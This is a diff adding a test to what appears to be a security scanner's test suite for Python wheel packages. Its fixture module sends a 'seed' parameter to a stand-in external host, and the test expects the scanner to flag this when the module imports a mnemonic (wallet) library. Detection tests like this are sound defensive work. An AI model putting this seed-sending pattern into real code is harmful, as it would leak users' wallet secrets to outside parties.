@@ -307,3 +307,20 @@ test('the key among the arguments of a command makes no key of the others', asyn
 
   expect(await inspect('secret-parameter', wheel({ 'pkg/__init__.py': sending('repository') }))).toEqual([]);
 });
+
+test('what a picture is drawn from is no secret for a word about coins in another module, in a module of wallets it is', async () => {
+  const of = (head: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(''),
+      'pkg/tree.py': python('# as the tree of a blockchain', 'def leaf(x):', '    return x'),
+      'pkg/draw.py': python(
+        head,
+        'import requests',
+        'def draw(seed):',
+        "    return requests.get('https://pictures.vendor.invalid/draw', params={'seed': seed}).content",
+      ),
+    });
+
+  expect(await inspect('secret-parameter', of('import math'))).toEqual([]);
+  expect(await inspect('secret-parameter', of('import mnemonic'))).toMatchObject([{ score: 6 }]);
+});
